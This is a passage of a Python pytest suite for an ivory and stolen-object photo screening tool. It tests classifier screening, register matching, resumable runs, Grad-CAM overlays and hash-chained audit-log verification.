    assert str(refused.value) == (f"{odd}: no image files in folder with a UTF-8 name (1 without one, e.g. "
                                  f"{odd}/caf\\xe9.jpg)")
    table = tmp_path / "plain.csv"
    photos = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[:2]
    pd.DataFrame({"image": [str(p) for p in photos], "price": ["5", "6"]}).to_csv(table, index=False)
    df = read_listings(table)
    assert df["listing_id"].tolist() == ["0", "1"] and df["price"].tolist() == ["5", "6"]


def test_a_batch_whose_every_photo_is_unreadable_is_recorded_and_the_run_goes_on(model_dir, synthetic_dataset,
                                                                                  tmp_path):
    """A batch with no readable photo (a seller's dead links, one after another) has nothing to stack for the
    model: its rows are recorded as unreadable and the next batch screened."""
    good = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[:3]
    (tmp_path / "empty.jpg").write_bytes(b"")
    (tmp_path / "text.jpg").write_text("not a photo")
    table = tmp_path / "l.csv"
    images = [str(tmp_path / "empty.jpg"), str(tmp_path / "text.jpg"), *map(str, good)]
    pd.DataFrame({"listing_id": list("abcde"), "image": images}).to_csv(table, index=False)
    summary = Screener(model_dir, batch_size=2, progress=False, explain=0).run(table, tmp_path / "out")
    assert summary["complete"] and summary["recorded"] == 5
    records = read_evidence(tmp_path / "out" / "evidence.jsonl")
    assert [r["error"] is not None for r in sorted(records, key=lambda r: r["row"])] == [True, True, False, False,
                                                                                         False]


def test_explain_n_overlays_the_first_n_flagged_photos_of_the_queue(model_dir, synthetic_dataset, tmp_path):
    """``--explain N`` is a budget (a mutation run, session 22: no test had set it): the first N flagged photos
    in queue order get their Grad-CAM overlay, the rest of the queue none, and 0 means none at all."""
    photos = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[:5]
    table = tmp_path / "l.csv"
    pd.DataFrame({"listing_id": list("abcde"), "image": list(map(str, photos))}).to_csv(table, index=False)
    for n in (0, 1, 3):
        summary = Screener(model_dir, batch_size=2, progress=False, explain=n).run(table, tmp_path / f"out{n}")
        queue = pd.read_csv(tmp_path / f"out{n}" / "queue.csv")
        assert summary["flagged"] == len(queue) >= 4
        page = (tmp_path / f"out{n}" / "queue.html").read_text()
        cards = page.split('class="card"')[1:]
        assert [c.count('alt="evidence overlay (Grad-CAM)') for c in cards] == [1] * n + [0] * (len(cards) - n)


def test_a_queue_overlay_explains_the_photo_as_the_screen_decided_it(model_dir, synthetic_dataset, tmp_path,
                                                                      monkeypatch):
    """The queue's Grad-CAM overlay (and the score written on it) came from the photo decoded whole, while the
    screen decided on it decoded at the model's scale: a large JPEG's overlay could show another probability than
    its row of the queue. Now both come from one decode, in a lot scan too (it decodes larger for its tiles). And a
    lot flagged for one tile while the photo whole reads as not ivory was overlaid with the evidence for "non_ivory":
    an overlay shows what makes the photo look like the flagged class, and since then the photo whole's evidence
    for it: now the evidence of the tile that decided (drawn in its place on the photo)."""
    from PIL import Image

    from artsentry.explain import ClassifierExplainer

    photo = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[0]
    big, lot = tmp_path / "big.jpg", tmp_path / "lot.jpg"
    Image.open(photo).convert("RGB").resize((1400, 1050), Image.LANCZOS).save(big, quality=92)
    blue = sorted((synthetic_dataset / "non_ivory").glob("*.jpg"))[0]
    table_top = Image.open(blue).convert("RGB").resize((1400, 1050))  # a blue object, a cream one in a corner
    table_top.paste(Image.open(photo).convert("RGB").resize((350, 262)), (1000, 750))
    table_top.save(lot, quality=92)
    seen = []
    made = ClassifierExplainer.explain_images

    def spy(self, images, names, *args, **kw):
        seen.extend(made(self, images, names, *args, **kw))
        return seen[-len(images):]

    monkeypatch.setattr(ClassifierExplainer, "explain_images", spy)
    lot_model, large_lot_model = tmp_path / "lot-model", tmp_path / "large-lot-model"
    for folder, size in ((lot_model, 64), (large_lot_model, 300)):  # 300 px: tiles decoded whole, not at 1/2
        shutil.copytree(model_dir, folder)
        update_config(folder, lots={"threshold": 0.1, "grid": 3},
                      preprocessing={**read_config(folder)["preprocessing"], "input_size": size})
    for out, model, image in (("one", model_dir, big), ("lots", large_lot_model, big), ("lot", lot_model, lot)):
        seen.clear()
        table = tmp_path / f"{out}.csv"
        pd.DataFrame({"listing_id": ["a"], "image": [str(image)]}).to_csv(table, index=False)
        Screener(model, progress=False, explain=1, lots=out != "one").run(table, tmp_path / out)
        [row] = read_evidence(tmp_path / out / "evidence.jsonl")
        [shown] = seen  # the crop that decided: the photo whole, or in a lot scan its best tile
        assert row["flagged"] and shown.target == "ivory"
        assert shown.probabilities["ivory"] == pytest.approx(row["score"], abs=2e-6)
        if out == "lot":  # flagged for its cream tile alone: the photo whole is under the model's threshold
            assert row["lot"]["tile"] > 0 and row["lot"]["whole"] < 0.5


def test_screening_into_another_models_run_says_what_differs(model_dir, culture_model_dir, listings, tmp_path):
    """A run is resumed only by the model it began with. Another model is named against the first; the same
    weights read from another folder (or with another threshold) say which field differs, not "another
    model (X, not X)"."""
    out = tmp_path / "out"
    Screener(model_dir, progress=False).run(listings, out, max_rows=3)
    first = Predictor.load(model_dir).info()
    name = f"{first['name']} {first['version']}"
    copy = tmp_path / "copy"
    shutil.copytree(model_dir, copy)
    with pytest.raises(ScreenError) as refused:
        Screener(copy, progress=False).run(listings, out)
    assert str(refused.value) == (f"{out} holds a screening run of the model {name} with another path "
                                  f"({model_dir.resolve()} then, {copy.resolve()} now); use --overwrite or another "
                                  "--out")
    other = Predictor.load(culture_model_dir).info()
    with pytest.raises(ScreenError) as refused:
        Screener(culture_model_dir, progress=False).run(listings, out)
    assert f"another model ({name}, not {other['name']} {other['version']})" in str(refused.value)
    with pytest.raises(ScreenError) as refused:
        Screener(model_dir, culture_dir=culture_model_dir, progress=False).run(listings, out)
    assert f"another culture model (none, not {other['name']} {other['version']})" in str(refused.value)


def test_a_screener_warns_of_a_register_without_a_threshold_only_when_it_has_one_to_set(photos, tmp_path, caplog):
    """Screening against a register that holds objects but no no-match threshold: its matches are listed and
    none decided, which is said once when the screener is made; not for a register with a threshold, nor for
    an empty one (nothing to match). (A mutation run found the three conditions unpinned, session 21.)"""
    from artsentry.index import Register

    reg = abc_register(tmp_path / "reg", photos)
    said = "the register has no no-match threshold: its matches are listed (results.csv) and none decided"
    with caplog.at_level("WARNING"):
        Screener(None, tmp_path / "reg", progress=False)
    assert caplog.text.count(said) == 1
    reg.set_threshold(0.2)
    reg.close()
    Register.create(tmp_path / "empty").close()
    caplog.clear()
    with caplog.at_level("WARNING"):
        Screener(None, tmp_path / "reg", progress=False)
        Screener(None, tmp_path / "empty", progress=False)
    assert said not in caplog.text


def test_screen_with_register_ranks_matches_first(model_dir, photos, synthetic_dataset, tmp_path):
    from artsentry.index import Register

    reg = Register.create(tmp_path / "reg")
    for name in "AB":
        reg.add(name, photos[name][0], title=f"Object {name}", status="stolen")
    queries = [photos["A"][1], photos["B"][1], photos["C"][1], photos["unknown"]]
    best = [r.matches[0].score for r in reg.search(queries, k=1)]
    assert min(best[:2]) > max(best[2:])  # registered objects score above the others
    reg.set_threshold((min(best[:2]) + max(best[2:])) / 2)
    reg.close()
    ivory = sorted(str(f) for f in (synthetic_dataset / "ivory").glob("*.jpg"))[:2]
    path = tmp_path / "l.csv"
    pd.DataFrame({"listing_id": ["qA", "qB", "qC", "dark", "iv1", "iv2"], "image": queries + ivory}).to_csv(path)
    out = tmp_path / "out"
    summary = Screener(model_dir, tmp_path / "reg", progress=False, k=2).run(path, out)
    assert summary["matched"] == 2
    by_id = {r["listing_id"]: r for r in read_evidence(out / "evidence.jsonl")}
    assert by_id["qA"]["matched"] and by_id["qA"]["matches"][0]["object_id"] == "A"
    assert by_id["qB"]["matched"] and by_id["qB"]["matches"][0]["status"] == "stolen"
    assert not by_id["qC"]["matched"] and not by_id["dark"]["matched"]
    assert by_id["iv1"]["register"]["objects"] == 2
    results = pd.read_csv(out / "results.csv").set_index("listing_id")
    for lid, r in by_id.items():  # each photo's best match is its first (k=2: two in the record)
        assert len(r["matches"]) == 2 and r["matches"][0]["score"] >= r["matches"][1]["score"]
        assert (results.at[lid, "best_match"], results.at[lid, "best_match_score"]) == \
            (r["matches"][0]["object_id"], pytest.approx(r["matches"][0]["score"])), lid
    queue = pd.read_csv(out / "queue.csv")
    assert set(queue["listing_id"][:2]) == {"qA", "qB"}  # known objects first, whatever their score
    assert {"iv1", "iv2"} <= set(queue["listing_id"][2:])
    page = (out / "queue.html").read_text()
    assert "register match: <b>A</b>" in page
    # the report says what it rests on: input, model version and threshold, register and its state
    model = Predictor.load(model_dir).info()
    about = summary["about"]
    assert about[0] == f"6 photo(s) of {path.resolve()}"
    assert summary["screened_between"][0] <= summary["screened_between"][1]
    assert about[1].startswith(f"Model: {model['name']} version {model['version']} ({model['path']})")
    assert f"threshold {model['threshold']}" in about[1]
    assert about[2].startswith(f"Register {(tmp_path / 'reg').resolve()}: 2 object(s), 4 recorded change(s), the last ")
    assert about[2].endswith(f"no-match threshold {Register.open(tmp_path / 'reg').threshold:.6g}")
    assert all(html.escape(line) in page for line in about)
    # register only, no model
    only = Screener(None, tmp_path / "reg", progress=False).run(path, tmp_path / "only")
    assert only["matched"] == 2 and only["flagged"] == 0


def test_a_run_resumed_after_its_register_changed_says_so(model_dir, photos, tmp_path, caplog):
    """Each record names the register's state (objects, changes, last change); a run interrupted, the
    register changed, then resumed: the photos screened before were not searched against the change,
    and the resume says so (once) instead of passing in silence."""
    from artsentry.index import Register

    reg = Register.create(tmp_path / "reg", threshold=0.5)
    reg.add("A", photos["A"][0])
    reg.close()
    queries = [photos["A"][1], photos["B"][1], photos["C"][1], photos["unknown"]]
    path = tmp_path / "l.csv"
    pd.DataFrame({"image": queries}).to_csv(path, index=False)
    out = tmp_path / "out"
    Screener(None, tmp_path / "reg", progress=False, batch_size=2).run(path, out, max_rows=2)
    reg = Register.open(tmp_path / "reg")
    reg.add("B", photos["B"][0])
    reg.close()
    with caplog.at_level("WARNING"):
        done = Screener(None, tmp_path / "reg", progress=False, batch_size=2).run(path, out)
    assert done["complete"]
    assert "the register changed since" in caplog.text and "(1 objects, 2 changes then; 2 and 3 now" in caplog.text
    states = [(r["register"]["objects"], r["register"]["changes"]) for r in read_evidence(out / "evidence.jsonl")]
    assert states == [(1, 2), (1, 2), (2, 3), (2, 3)]
    assert all(r["register"]["changed"] for r in read_evidence(out / "evidence.jsonl"))
    caplog.clear()
    with caplog.at_level("WARNING"):  # run again: said once, not every time
        Screener(None, tmp_path / "reg", progress=False, batch_size=2).run(path, out)
    assert "the register changed" not in caplog.text
    # its threshold set again, or another register: refused, and the refusal says which
    reg = Register.open(tmp_path / "reg")
    reg.set_threshold(0.3)
    reg.close()
    with pytest.raises(ScreenError, match=re.escape(f"the register {tmp_path / 'reg'} with another threshold "
                                                    "(0.5 then, 0.3 now)")):
        Screener(None, tmp_path / "reg", progress=False).run(path, out)
    abc_register(tmp_path / "other", photos).close()
    with pytest.raises(ScreenError, match=re.escape(f"another register ({tmp_path / 'reg'}, not "
                                                    f"{tmp_path / 'other'})")):
        Screener(None, tmp_path / "other", progress=False).run(path, out)


def test_screen_with_culture_model(model_dir, culture_model_dir, culture_dataset, tmp_path, capsys):
    files = sorted(str(f) for f in culture_dataset.rglob("*.jpg"))[::3]
    path = tmp_path / "l.csv"
    pd.DataFrame({"listing_id": [f"c{i}" for i in range(len(files))], "image": files}).to_csv(path, index=False)
    out = tmp_path / "out"
    assert main(["-q", "screen", str(path), "--out", str(out), "--model", str(model_dir),
                 "--culture-model", str(culture_model_dir)]) == 0
    records = read_evidence(out / "evidence.jsonl")
    expected = Predictor.load(culture_model_dir).predict_files(files)
    assert len(records) == len(files)
    for r, e in zip(records, expected):
        assert r["label"] in ("ivory", "non_ivory")  # the ivory model still decides
        assert r["culture"]["label"] == e.label
        assert r["culture"]["score"] == pytest.approx(e.score, abs=1e-4)
        assert sum(r["culture"]["probabilities"].values()) == pytest.approx(1, abs=1e-4)
        assert r["culture_model"]["version"] and r["culture_model"]["path"] == str(culture_model_dir.resolve())
    # the colour classes are easy: the model must get them right, and the table carries them
    truth = [Path(f).parent.name for f in files]
    assert np.mean([r["culture"]["label"] == t for r, t in zip(records, truth)]) >= 0.9
    table = pd.read_csv(out / "results.csv")
    assert table["culture"].tolist() == [r["culture"]["label"] for r in records]
    # a run with another culture model cannot resume into this folder
    with pytest.raises(ScreenError, match="two-class"):
        Screener(model_dir, culture_dir=model_dir, progress=False)  # refused outright
    with pytest.raises(ScreenError, match="another culture model"):
        Screener(model_dir, progress=False).run(path, out)
    # culture alone, no ivory model
    only = Screener(None, culture_dir=culture_model_dir, progress=False).run(path, tmp_path / "only")
    assert only["complete"] and only["flagged"] == 0


@pytest.mark.parametrize("seed", [0])
def test_kill_9_and_rerun_gives_identical_outputs(model_dir, synthetic_dataset, tmp_path, seed):
    files = sorted(str(f) for f in synthetic_dataset.rglob("*.jpg"))
    rows = [{"listing_id": f"L{i}", "image": files[i % len(files)]} for i in range(240)]
    path = tmp_path / "big.csv"
    pd.DataFrame(rows).to_csv(path, index=False)
    cmd = [sys.executable, "-m", "artsentry.cli", "-q", "screen", str(path), "--model", str(model_dir),
           "--batch-size", "4", "--workers", "0", "--explain", "3"]  # queue.html with overlays, not 50 of them
    whole, killed = tmp_path / "whole", tmp_path / "killed"
    assert main(cmd[3:] + ["--out", str(whole)]) == 0  # the run never stopped: here, without a second import
    proc = subprocess.Popen(cmd + ["--out", str(killed)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    log = killed / "evidence.jsonl"
    target = np.random.default_rng(seed).integers(20, 200)
    deadline = time.time() + 240
    while time.time() < deadline and proc.poll() is None:
        if log.is_file() and log.read_bytes().count(b"\n") >= target:
            break
        time.sleep(0.01)
    assert proc.poll() is None, "the run finished before it could be killed"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    n_before = len(read_evidence(log))
    assert 0 < n_before < 240
    subprocess.run(cmd + ["--out", str(killed)], check=False, capture_output=True, timeout=300)
    a, b = read_evidence(whole / "evidence.jsonl"), read_evidence(log)
    assert [r["row"] for r in b] == list(range(240))
    assert _strip_time(a) == _strip_time(b)
    for name in ("results.csv", "queue.csv", "errors.csv", "queue.html", "listings.csv"):
        assert (whole / name).read_bytes() == (killed / name).read_bytes(), name


def test_ray_engine_gives_the_local_decisions(onnx_model_dir, listings, tmp_path):
    import ray  # a dev dependency: installed by the README's set-up and in CI

    local = tmp_path / "local"
    Screener(onnx_model_dir, progress=False, batch_size=4).run(listings, local)
    try:
        ray.init(num_cpus=2, include_dashboard=False, log_to_driver=False, configure_logging=False)
        s = Screener(onnx_model_dir, progress=False, batch_size=4, ray_workers=2)
        summary = s.run(listings, tmp_path / "ray", engine="ray")
        # the log needs its records in row order; with 2 actors on a few blocks they came in order here even
        # without it (a mutation run, session 23), so the setting that makes Ray keep the order is checked
        assert ray.data.DataContext.get_current().execution_options.preserve_order is True
    finally:
        ray.shutdown()
    assert summary["complete"]
    a, b = read_evidence(local / "evidence.jsonl"), read_evidence(tmp_path / "ray" / "evidence.jsonl")
    assert [r["row"] for r in b] == list(range(len(a)))
    for x, y in zip(a, b):
        assert (x["listing_id"], x["sha256"], x["error"], x.get("label"), x.get("flagged")) == \
               (y["listing_id"], y["sha256"], y["error"], y.get("label"), y.get("flagged"))
        if x["error"] is None:
            assert abs(x["score"] - y["score"]) <= 1e-5
    assert (local / "queue.csv").read_bytes() == (tmp_path / "ray" / "queue.csv").read_bytes()


def test_a_second_screening_into_a_busy_folder_is_refused(model_dir, listings, tmp_path):
    """Two screenings into one --out would interleave their records in one evidence chain."""
    from artsentry.files import FolderBusy, exclusive

    out = tmp_path / "out"
    with exclusive(out, "screen"):
        with pytest.raises(FolderBusy, match="another artsentry screen is writing here"):
            Screener(model_dir, progress=False).run(listings, out)
    assert Screener(model_dir, progress=False).run(listings, out)["complete"]  # free once the first ends


def test_screen_and_verify_commands_print_the_run_s_figures_and_at_most_20_missing_photos(model_dir, synthetic_dataset,
                                                                                          tmp_path, capsys):
    """What the two commands print, pinned (a mutation run of their bodies, session 22): the run's
    seconds and speed as summary.json has them, no progress bars with -q, and verify naming the first 20
    missing photos and counting the rest."""
    photo = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[0]
    folder = tmp_path / "photos"
    folder.mkdir()
    for i in range(22):
        shutil.copy(photo, folder / f"{i:02d}.jpg")
    out = tmp_path / "out"
    assert main(["-q", "screen", str(folder), "--out", str(out), "--model", str(model_dir)]) == 0
    said = capsys.readouterr()
    run = json.loads((out / "summary.json").read_text())["this_run"]
    assert run["images"] == 22 and run["images_per_second"] > 0
    assert said.out.splitlines()[0] == (f"screened 22 image(s) in {run['seconds']:.1f} s "
                                        f"({run['images_per_second']:.1f} img/s); 22/22 recorded")
    assert "\n1 photo(s) appear, byte for byte, in more than one listing" in said.out and "%|" not in said.err
    for f in folder.iterdir():
        f.unlink()
    assert main(["-q", "verify", str(out)]) == 1
    said = capsys.readouterr()
    assert said.out.startswith("0 of 22 photo(s) hash as screened; changed 0, missing 22,")
    named = [f"missing: {folder / f'{i:02d}.jpg'}" for i in range(20)]
    assert said.err.splitlines() == named + ["... and 2 more missing"]
    for i in (20, 21):  # exactly 20 missing: all named, nothing more to count
        shutil.copy(photo, folder / f"{i:02d}.jpg")
    assert main(["-q", "verify", str(out)]) == 1
    assert capsys.readouterr().err.splitlines() == named


def test_a_rotated_audit_log_is_verified_as_one_chain_through_its_files(tmp_path, capsys):
    """logrotate moves the server's audit log aside and the server goes on in a new file whose first record
    links to the last of the old one: verified alone, that file was 'chain BROKEN' at line 1 (a false
    alarm), and nothing verified the files together."""
    from artsentry.serve.audit import AuditLog

    log = AuditLog(tmp_path / "audit.log")
    for i in range(3):
        log.write("analyze", "127.0.0.1", n=i)
    (tmp_path / "audit.log").rename(tmp_path / "audit.log.1")  # logrotate's move; the server goes on
    for i in range(2):
        log.write("analyze", "127.0.0.1", n=3 + i)
    old, new = str(tmp_path / "audit.log.1"), str(tmp_path / "audit.log")
    assert main(["verify", new]) == 1  # alone: its start is not in it, which is said (it may have been cut)
    out = capsys.readouterr().out
    assert "BROKEN" not in out and "audit.log: chain intact, 2 linked record(s)" in out
    assert "its first record links to a record that is not in it: the records before it were removed, or it is " \
           "a rotated log's later file" in out
    assert main(["verify", old, new]) == 0
    out = capsys.readouterr().out
    assert "audit.log.1: chain intact, 3 linked record(s)" in out and "audit.log: chain intact, 2 linked" in out
    old_head = out.splitlines()[1].split()[-1]
    assert main(["verify", old, new, "--expect", old_head]) == 0
    assert f"the head {old_head} stands for the first 3 record(s), up to audit.log.1: still there" in \
        capsys.readouterr().out
    assert main(["verify", new, old]) == 1  # the wrong order
    assert "audit.log.1: its first record does not link to the last of audit.log: give the files oldest first" in \
        capsys.readouterr().out
    lines = Path(old).read_bytes().splitlines(keepends=True)
    Path(old).write_bytes(lines[0] + lines[2])  # a record removed from the older file
    assert main(["verify", old, new, "--expect", old_head]) == 1
    assert "audit.log.1: chain BROKEN" in capsys.readouterr().out
    assert main(["verify", old, str(tmp_path)]) == 1
    assert "a folder; give a screening run's folder alone, or log files" in capsys.readouterr().err


def test_verify_of_a_log_file_says_what_it_holds_besides_its_chain(tmp_path, capsys):
    """`artsentry verify LOG` on logs a long-running server leaves (none of these had a test): records from
    before records were chained, then linked ones; a line that is not a record (reported, not a failure: a
    changed record breaks the chain instead); a log of unchained records only; an empty file; --refetch,
    which only a screening run's folder takes."""
    from artsentry import chainlog

    old = [json.dumps({"event": "analyze", "n": i}) + "\n" for i in range(2)]
    text, head = chainlog.chained_lines([{"event": "analyze", "n": i} for i in range(2, 5)],
                                        chainlog.line_hash(old[-1].encode()))
    log = tmp_path / "audit.jsonl"
    log.write_text(old[0] + old[1] + "not a record\n" + text + '{"event": "analy')  # the last write cut short
    assert main(["-q", "verify", str(log)]) == 0
    out, err = capsys.readouterr()
    assert out == ("audit.jsonl: chain intact, 3 linked record(s)\n"
                   "audit.jsonl: the first 2 record(s) were written before records were chained: they do not link "
                   "to each other (the chain covers only the last of them)\n"
                   f"audit.jsonl head {head}\n")
    assert err == "audit.jsonl: 1 line(s) that are not records (a write cut short?), line(s) 3\n"
    log.write_text(old[0] + old[1])
    assert main(["-q", "verify", str(log)]) == 0
    assert capsys.readouterr().out == "audit.jsonl: no linked records (written before records were chained)\n"
    # more than ten broken links or bad lines: the first ten named, then "..."
    text, head = chainlog.chained_lines([{"n": i} for i in range(13)], chainlog.GENESIS)
    lines = text.splitlines(keepends=True)
    for k in range(1, 12):  # records 2-12 edited: lines 3-13 no longer link to the record before them
        lines[k] = lines[k].replace(f'"n": {k},', '"n": 99,')
    log.write_text("".join(lines) + "junk\n" * 12)
    assert main(["-q", "verify", str(log)]) == 1
    out, err = capsys.readouterr()
    assert out == ("audit.jsonl: chain BROKEN: the record on line(s) 3, 4, 5, 6, 7, 8, 9, 10, 11, 12 ... does not link "
                   "to the record before it (a record there or before it was changed, removed or inserted)\n"
                   f"audit.jsonl head {chainlog.line_hash(lines[-1].encode())}\n")
    assert err == ("audit.jsonl: 12 line(s) that are not records (a write cut short?), line(s) 14, 15, 16, 17, 18, 19, "
                   "20, 21, 22, 23 ...\n")
    log.write_text("".join(lines[:12]) + "junk\n" * 10)  # exactly ten of each: all named
    assert main(["-q", "verify", str(log)]) == 1
    out, err = capsys.readouterr()
    assert out.startswith("audit.jsonl: chain BROKEN: the record on line(s) 3, 4, 5, 6, 7, 8, 9, 10, 11, 12 does not "
                          "link")
    assert err.endswith("line(s) 13, 14, 15, 16, 17, 18, 19, 20, 21, 22\n")
    for argv, said in [([str(log), "--refetch"], "--refetch and --fetch-private check a screening run's photos: "
                                                   "give its folder"),
                       ([str(tmp_path / "empty.jsonl")], f"{tmp_path / 'empty.jsonl'}: empty"),
                       # a mistyped name: a file of no records passed (exit 0, 'no linked records')
                       ([str(tmp_path / "listings.csv")], f"{tmp_path / 'listings.csv'}: not an audit or evidence "
                                                            "log: it holds no JSON record"),
                       ([str(tmp_path / "cut.jsonl")], "cut.jsonl: not an audit or evidence log: it holds no JSON")]:
        (tmp_path / "empty.jsonl").write_bytes(b"")
        (tmp_path / "listings.csv").write_text("listing_id,image\nL1,a.jpg\n")
        (tmp_path / "cut.jsonl").write_text('{"event": "analy')  # one record, cut short: nothing to check
        assert main(["-q", "verify", *argv]) == 1
        assert said in capsys.readouterr().err


def test_a_resumed_url_screen_keeps_fetched_photos_where_its_run_began_keeping_them(model_dir, synthetic_dataset,
                                                                                      tmp_path):
    """Evidence kept by --keep-fetched stays in one folder for the whole run: resumed without the option,
    the run still keeps what it fetches there (it used to keep nothing, so verify found those photos
    "fetched and not kept"); resumed with another folder, it is refused before anything is screened."""
    some = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[:4]
    photos = {f"/{i}.jpg": p.read_bytes() for i, p in enumerate(some)}
    table, out, kept = tmp_path / "listings.csv", tmp_path / "out", tmp_path / "kept"
    with web_host(lambda request: reply(request, 200, photos[request.path])) as (base, _):
        pd.DataFrame({"listing_id": list("abcd"), "image_url": [f"{base}{p}" for p in photos]}).to_csv(table,
                                                                                                     index=False)
        Screener(model_dir, progress=False, fetch_urls=True, keep_fetched=kept, fetch_private=True,
                 batch_size=2).run(table, out, max_rows=2)  # stopped after two photos
        assert len(list(kept.rglob("*.jpeg"))) == 2
        with pytest.raises(ScreenError, match=f"{out} keeps the photos it fetched in {kept}, not {tmp_path / 'k2'}: "
                                              f"resume it with --keep-fetched {kept}, or without the option"):
            Screener(model_dir, progress=False, fetch_urls=True, keep_fetched=tmp_path / "k2", fetch_private=True,
                     batch_size=2).run(table, out)
        assert not (tmp_path / "k2").exists() and len(read_evidence(out / "evidence.jsonl")) == 2
        resumer = Screener(model_dir, progress=False, fetch_urls=True, fetch_private=True, batch_size=2)
        resumer.run(table, out)
        resumer.run(table, tmp_path / "elsewhere")  # the folder was that run's: a new run of this screener keeps none
    assert len(list(kept.rglob("*.jpeg"))) == 4
    assert verify_run(tmp_path / "elsewhere", progress=False)["not_kept"] == 4
    assert pd.read_csv(out / "results.csv", keep_default_na=False)["kept_file"].str.startswith(str(kept)).all()
    verified = verify_run(out, progress=False)
    assert (verified["verified"], verified["not_kept"]) == (4, 0)


def test_a_screen_with_its_out_inside_the_folder_it_screens_never_reads_its_own_outputs(model_dir, synthetic_dataset,
                                                                                         tmp_path, caplog):
    """``screen photos --out photos/screen``: run again, the folder's scan passes over the run's own folder (it
    warned of its eight output files as files not read, and would have screened a picture saved there); an
    --out that is the folder itself still screens the folder's photos."""
    photos = tmp_path / "photos"
    photos.mkdir()
    for p in sorted((synthetic_dataset / "ivory").glob("*.jpg"))[:3]:
        shutil.copy(p, photos / p.name)
    out = photos / "screen"
    Screener(model_dir, progress=False).run(photos, out)
    shutil.copy(photos / sorted(os.listdir(photos))[0], out / "saved-from-the-queue.jpg")
    caplog.clear()
    with caplog.at_level("WARNING"):
        again = Screener(model_dir, progress=False).run(photos, out)
    assert "not read" not in caplog.text and again["recorded"] == 3
    assert len(pd.read_csv(out / "results.csv")) == 3
    beside = Screener(model_dir, progress=False).run(photos, photos)  # outputs beside the photos: still screened
    assert beside["recorded"] == 4  # the three photos and the picture in photos/screen, a sub-folder like any other


def test_a_damaged_run_record_is_named_and_verify_still_checks_the_evidence(model_dir, synthetic_dataset, tmp_path,
                                                                             capsys, caplog):
    """A screen.json cut short or edited stopped screen and verify with JSON's bare 'Expecting property name
    ...', naming no file. screen names it and the way on; verify checks the evidence all the same."""
    from artsentry.cli import main

    out = tmp_path / "out"
    folder = synthetic_dataset / "ivory"
    assert main(["-q", "screen", str(folder), "--out", str(out), "--model", str(model_dir)]) == 0
    (out / "screen.json").write_text('{"input": ')
    capsys.readouterr()
    assert main(["-q", "screen", str(folder), "--out", str(out), "--model", str(model_dir)]) == 1
    assert capsys.readouterr().err.strip() == (
        f"artsentry screen: error: {out / 'screen.json'}: the screening run's record is damaged (Expecting value: "
        "line 1 column 11 (char 10)); use --overwrite to screen again from the start, or another --out")
    caplog.clear()
    assert main(["-q", "verify", str(out)]) == 0
    n = len(list(folder.glob("*.jpg")))
    assert f"{n} of {n} photo(s) hash as screened" in capsys.readouterr().out
    assert "the evidence is checked without it" in caplog.text
    assert main(["-q", "screen", str(folder), "--out", str(out), "--model", str(model_dir), "--overwrite"]) == 0
    assert json.loads((out / "screen.json").read_text())["input"]


def test_a_table_of_paths_from_the_working_folder_is_refused_before_screening(tmp_path, monkeypatch, caplog):
    """Every photo of such a table was an error, recorded in the run's evidence for good (the same --out then
    refused the mended table as changed rows)."""
    (tmp_path / "photos").mkdir()
    (tmp_path / "tables").mkdir()
    object_photo((1, 2, 3)).save(tmp_path / "photos" / "a.jpg")
    object_photo((3, 2, 1)).save(tmp_path / "tables" / "b.jpg")
    table = tmp_path / "tables" / "listings.csv"
    pd.DataFrame({"image": ["photos/a.jpg", "photos/a.jpg"]}).to_csv(table, index=False)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ScreenError, match=r"2 image path\(s\) are not beside the table but are beside the current "
                                          r"folder \(e.g. photos/a.jpg\).*; nothing was screened"):
        read_listings(table)
    pd.DataFrame({"image": ["photos/a.jpg", "b.jpg"]}).to_csv(table, index=False)  # some right: said, screened
    with caplog.at_level("WARNING", logger="artsentry.screen"):
        assert read_listings(table)["image"].tolist() == [str(tmp_path / "tables" / "photos" / "a.jpg"),
                                                          str(tmp_path / "tables" / "b.jpg")]
    assert "1 image path(s) are not beside the table" in caplog.text


def test_a_table_of_windows_paths_is_refused_and_a_windows_path_named_as_such(tmp_path, model_dir, caplog):
    """A table made on an analyst's PC, naming C:\\photos\\a.jpg or a share, screened on this machine: each
    path was joined to the table's folder and 'not found' as /tables/C:\\photos\\a.jpg, for good in the run."""
    (tmp_path / "tables").mkdir()
    object_photo((3, 2, 1)).save(tmp_path / "tables" / "b.jpg")
    table = tmp_path / "tables" / "listings.csv"
    pd.DataFrame({"image": ["C:\\photos\\a.jpg", "\\\\server\\share\\c.jpg", "d:/x.jpg"]}).to_csv(table, index=False)
    with pytest.raises(ScreenError, match=r"3 image path\(s\) are Windows paths \(e.g. C:\\photos\\a.jpg\), which this "
                                          r"machine cannot open: write the paths .*; nothing was screened"):
        read_listings(table)
    pd.DataFrame({"image": ["C:\\photos\\a.jpg", "b.jpg"]}).to_csv(table, index=False)  # some right: said, screened
    out = tmp_path / "out"
    with caplog.at_level("WARNING", logger="artsentry.screen"):
        Screener(model_dir, progress=False).run(table, out)
    assert "1 image path(s) are Windows paths" in caplog.text
    [error] = read_evidence(out / "evidence.jsonl")[:1]
    assert error["image"] == "C:\\photos\\a.jpg" and error["error"].startswith(
        "C:\\photos\\a.jpg: file not found: a Windows path, which this machine cannot open; write the paths as")
